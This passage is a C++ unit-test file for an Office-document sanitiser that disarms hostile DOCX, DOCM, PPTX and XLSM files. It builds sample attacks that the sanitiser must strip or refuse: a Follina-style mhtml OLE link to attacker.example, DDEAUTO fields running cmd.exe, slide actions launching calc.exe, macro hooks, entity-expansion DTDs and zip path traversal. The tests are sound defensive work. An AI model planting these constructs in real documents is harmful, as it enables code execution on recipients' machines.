  b.Rel("word/document.xml", "rId20", std::string(kRel) + "hyperlink", "https://example.org/", true)
      .Rel("word/document.xml", "rId21", std::string(kRel) + "hyperlink",
           "file://///attacker.example/share/x.lnk", true)
      // Follina (CVE-2022-30190): a linked OLE object fetched over mhtml.
      .Rel("word/document.xml", "rId22", std::string(kRel) + "oleObject",
           "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html", true);
  const Disarmed d = DisarmPackage(b.Build(), "docx");
  const std::string rels = *FileIn(d.files, "word/_rels/document.xml.rels");
  EXPECT_THAT(rels, HasSubstr("https://example.org/"));
  EXPECT_THAT(rels, Not(HasSubstr("attacker")));
  const std::string document = *FileIn(d.files, "word/document.xml");
  EXPECT_THAT(document, HasSubstr("share link text"));  // The text of the link stays.
  EXPECT_THAT(document, HasSubstr("web link text"));
  EXPECT_THAT(document, Not(HasSubstr("OLEObject")));
  EXPECT_THAT(d.findings, Contains(FindingIs("external-link", "word/_rels/document.xml.rels")));
}

TEST(OoxmlDisarm, DdeFieldsGoTheirResultsStay) {
  // DDEAUTO split over runs (as attackers do), a fldSimple DDE, and a benign PAGE field.
  const Bytes in =
      Docx(
          R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)"
          R"(<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>)"
          R"(<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Result 77</w:t></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)"
          R"(<w:p><w:fldSimple w:instr=" DDE Excel Sheet1 R1C1 "><w:r><w:t>Simple 88</w:t></w:r></w:fldSimple></w:p>)"
          R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)")
          .Build();
  const Disarmed d = DisarmPackage(in, "docx");
  const std::string document = *FileIn(d.files, "word/document.xml");
  EXPECT_THAT(document, Not(HasSubstr("DDE")));
  EXPECT_THAT(document, Not(HasSubstr("cmd.exe")));
  EXPECT_THAT(document, Not(HasSubstr("fldSimple")));
  EXPECT_THAT(document, HasSubstr("Result 77"));
  EXPECT_THAT(document, HasSubstr("Simple 88"));
  EXPECT_THAT(document, HasSubstr("PAGE"));  // Harmless fields stay fields.
  EXPECT_THAT(document, HasSubstr(std::string(kBenign)));
  EXPECT_EQ(std::count_if(d.findings.begin(), d.findings.end(),
                          [](const SanitizeFinding& f) { return f.kind == "dde-field"; }),
            2);
  XmlDoc doc = Parse(document);
  int fld_chars = 0;
  Walk(xmlDocGetRootElement(doc.get()), [&](xmlNode* node) {
    fld_chars += std::string_view(reinterpret_cast<const char*>(node->name)) == "fldChar";
  });
  EXPECT_EQ(fld_chars, 3);  // Only the PAGE field's.
}

TEST(OoxmlDisarm, FieldWhoseCommandIsComputedGoes) {
  // { { QUOTE 68 68 69 } ... }: the command word is built by a nested field.
  const Bytes in =
      Docx(
          R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="end"/></w:r>)"
          R"(<w:r><w:instrText> cmd /c calc </w:instrText></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)")
          .Build();
  const Disarmed d = DisarmPackage(in, "docx");
  EXPECT_THAT(*FileIn(d.files, "word/document.xml"), Not(HasSubstr("instrText")));
  EXPECT_THAT(d.findings, Contains(FindingIs("dde-field", "word/document.xml")));
}

TEST(OoxmlDisarm, CustomUiWiredToMacrosGoes) {
  PackageBuilder b = Docm();
  b.Part("customUI/customUI14.xml",
         "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" "
         "onLoad=\"Evil\"/>")
      .Rel("", "rId5", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
           "customUI/customUI14.xml");
  const Disarmed d = DisarmPackage(b.Build(), "docm");
  EXPECT_EQ(Names(d.files).count("customUI/customUI14.xml"), 0u);
  EXPECT_THAT(d.findings, Contains(FindingIs("custom-ui", "customUI/customUI14.xml")));
  EXPECT_THAT(*FileIn(d.files, "_rels/.rels"), Not(HasSubstr("customUI")));
}

TEST(OoxmlDisarm, SlideActionsThatRunProgramsGo) {
  const std::string p_ns =
      R"(xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" )"
      R"(xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" )"
      R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships")";
  PackageBuilder b;
  b.Part("ppt/presentation.xml",
         std::string(kXmlDecl) + "<p:presentation " + p_ns +
             "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>",
         "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
      .Part("ppt/slides/slide1.xml",
            std::string(kXmlDecl) + "<p:sld " + p_ns +
                "><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"T\">"
                "<a:hlinkClick r:id=\"rId3\" action=\"ppaction://program\"/>"
                "<a:hlinkHover r:id=\"\" action=\"ppaction://macro?name=Evil\"/></p:cNvPr>"
                "</p:nvSpPr><p:txBody><a:p><a:r><a:t>" +
                std::string(kBenign) +
                "</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>",
            "application/vnd.openxmlformats-officedocument.presentationml.slide+xml")
      .Rel("", "rId1", std::string(kRel) + "officeDocument", "ppt/presentation.xml")
      .Rel("ppt/presentation.xml", "rId2", std::string(kRel) + "slide", "slides/slide1.xml")
      .Rel("ppt/slides/slide1.xml", "rId3", std::string(kRel) + "hyperlink", "calc.exe", true);
  const Disarmed d = DisarmPackage(b.Build(), "pptx");
  const std::string slide = *FileIn(d.files, "ppt/slides/slide1.xml");
  EXPECT_THAT(slide, Not(HasSubstr("ppaction")));
  EXPECT_THAT(slide, HasSubstr(std::string(kBenign)));
  EXPECT_THAT(*FileIn(d.files, "ppt/slides/_rels/slide1.xml.rels"), Not(HasSubstr("calc.exe")));
  EXPECT_THAT(d.findings, Contains(FindingIs("launch-action", "ppt/slides/slide1.xml")));
}

TEST(OoxmlDisarmHostile, MalformedPackagesAreRefusedWithAReason) {
  const SanitizeOptions options = Options();
  Bytes truncated = Docm().Build();
  truncated.resize(truncated.size() / 2);
  {
    Context ctx(options);
    EXPECT_THAT(DisarmOoxml(truncated, MakeType("docm"), ctx),
                StatusIs(StatusCode::kInvalidArgument));
  }
  {
    // A DTD (entity expansion, external entities) is not allowed in a package.
    PackageBuilder b;
    b.Part("word/document.xml",
           "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
           "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><w:document " +
               std::string(kWordNs) +
               "><w:body><w:p><w:r><w:instrText>&b;</w:instrText></w:r></w:p></w:body>"
               "</w:document>",
           std::string(kDocxType))
        .Rel("", "rId1", std::string(kRel) + "officeDocument", "word/document.xml");
    Context ctx(options);
    Result<Bytes> out = DisarmOoxml(b.Build(), MakeType("docx"), ctx);
    EXPECT_THAT(out, StatusIs(StatusCode::kInvalidArgument));
    EXPECT_THAT(out.error().message(), HasSubstr("document type declaration"));
  }
  {
    Files files = Docx().Entries();
    files.emplace_back("WORD/Document.xml", "second copy");
    Context ctx(options);
    EXPECT_THAT(DisarmOoxml(MakeZip(files), MakeType("docx"), ctx),
                StatusIs(StatusCode::kInvalidArgument));
    EXPECT_TRUE(ctx.blocked());
    EXPECT_EQ(ctx.findings().at(0).kind, "malformed");
  }
  {
    Files files = Docx().Entries();
    files.emplace_back("../../evil.xml", "<x/>");
    Context ctx(options);
    EXPECT_THAT(DisarmOoxml(MakeZip(files), MakeType("docx"), ctx),
                StatusIs(StatusCode::kInvalidArgument));
    EXPECT_TRUE(ctx.blocked());
  }
}

TEST(OoxmlDisarmHostile, PartsBeyondTheEntryLimitAreRefused) {
  SanitizeOptions options = Options();
  options.limits.max_archive_entries = 3;
  Context ctx(options);
  EXPECT_THAT(DisarmOoxml(Docm().Build(), MakeType("docm"), ctx),
              StatusIs(StatusCode::kFailedPrecondition));
  EXPECT_TRUE(ctx.blocked());
}

// End to end: detection, the disarmer and the report (G-6.5-C12).
TEST(OoxmlDisarmSanitize, DocmThroughSanitizeIsDisarmedIntoDocx) {
  SanitizeOptions options;
  options.declared_name = "letter.docm";
  Result<SanitizeOutcome> outcome = Sanitize(Docm().Build(), options);
  ASSERT_OK(outcome);
  EXPECT_EQ(outcome->report.verdict, SanitizeVerdict::kDisarmed);
  EXPECT_EQ(outcome->report.detected.name, "docm");
  EXPECT_EQ(outcome->report.output_type, "docx");
  EXPECT_THAT(outcome->report.findings, Contains(FindingIs("vba-project", "word/vbaProject.bin")));
  EXPECT_EQ(DetectType(outcome->output).name, "docx");

  options.policy.per_type["docm"] = SanitizeAction::kHold;
  Result<SanitizeOutcome> held = Sanitize(Docm().Build(), options);
  ASSERT_OK(held);
  EXPECT_EQ(held->report.verdict, SanitizeVerdict::kHeld);
  EXPECT_TRUE(held->output.empty());
}

// LibreOffice (Debian's libreoffice-writer-nogui / -calc-nogui) opens what hokan wrote and finds
// the text (G-6.5-C12). soffice's first start in a fresh profile takes a few seconds.
class OoxmlDisarmLibreOffice : public ::testing::Test {
 protected:
  void SetUp() override {
    if (std::system("command -v soffice > /dev/null 2>&1") != 0) {
      GTEST_SKIP() << "soffice is not installed";
    }
  }

  // Converts `in` (named `name`) with soffice to `filter`; the converted file's text.
  std::string Convert(const Bytes& in, const std::string& name, const std::string& filter,
                      const std::string& out_ext) {
    const std::string dir = tmp_.path();
    {
      std::ofstream file(dir + "/" + name, std::ios::binary);
      file.write(reinterpret_cast<const char*>(in.data()), static_cast<std::streamsize>(in.size()));
    }
    const std::string command = "cd '" + dir + "' && timeout 120 soffice --headless --norestore " +
                                "-env:UserInstallation=file://" + dir + "/lo --convert-to " +
                                filter + " --outdir '" + dir + "/out' '" + dir + "/" + name +
                                "' > '" + dir + "/soffice.log' 2>&1";
    EXPECT_EQ(std::system(command.c_str()), 0) << command;
    const std::string stem = name.substr(0, name.find_last_of('.'));
    std::ifstream converted(dir + "/out/" + stem + "." + out_ext, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(converted), {});
  }

  hokan::testing::TempDir tmp_;
};

TEST_F(OoxmlDisarmLibreOffice, DisarmedDocmOpensWithItsTextIntact) {
  PackageBuilder b =
      Docx(R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)"
           R"(<w:r><w:instrText xml:space="preserve"> DDEAUTO cmd "/k calc" </w:instrText></w:r>)"
           R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Result 77</w:t></w:r>)"
           R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)",
           kDocmType);
  b.Default("bin", "application/vnd.ms-office.vbaProject")
      .Part("word/vbaProject.bin", "not a VBA project")
      .Rel("word/document.xml", "rId9", std::string(kMsRel) + "vbaProject", "vbaProject.bin");
  const Disarmed d = DisarmPackage(b.Build(), "docm");
  ASSERT_EQ(d.output_type, "docx");
  const std::string text = Convert(d.output, "letter.docx", "txt:Text", "txt");
  EXPECT_THAT(text, HasSubstr(std::string(kBenign)));
  EXPECT_THAT(text, HasSubstr("Result 77"));
  EXPECT_THAT(text, Not(HasSubstr("DDE")));
}

TEST_F(OoxmlDisarmLibreOffice, DisarmedXlsmOpensWithItsCellsIntact) {
  PackageBuilder b = Xlsx(kXlsmType, R"(<sheet name="Macro1" sheetId="2" r:id="rId2"/>)",
                          R"(<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1)"
                          R"(</definedName></definedNames>)");
  b.Part("xl/macrosheets/sheet2.xml",
         std::string(kXmlDecl) +
             "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/"
             "excel/2006/main\"><sheetData/></xm:macrosheet>",
         "application/vnd.ms-excel.macrosheet+xml")
      .Rel("xl/workbook.xml", "rId2", std::string(kMsRel) + "xlMacrosheet",
           "macrosheets/sheet2.xml");
  const Disarmed d = DisarmPackage(b.Build(), "xlsm");
  ASSERT_EQ(d.output_type, "xlsx");
  EXPECT_THAT(Convert(d.output, "sheet.xlsx", "csv", "csv"), HasSubstr(std::string(kBenign)));
}

}  // namespace
}  // namespace hokan::sanitize_internal
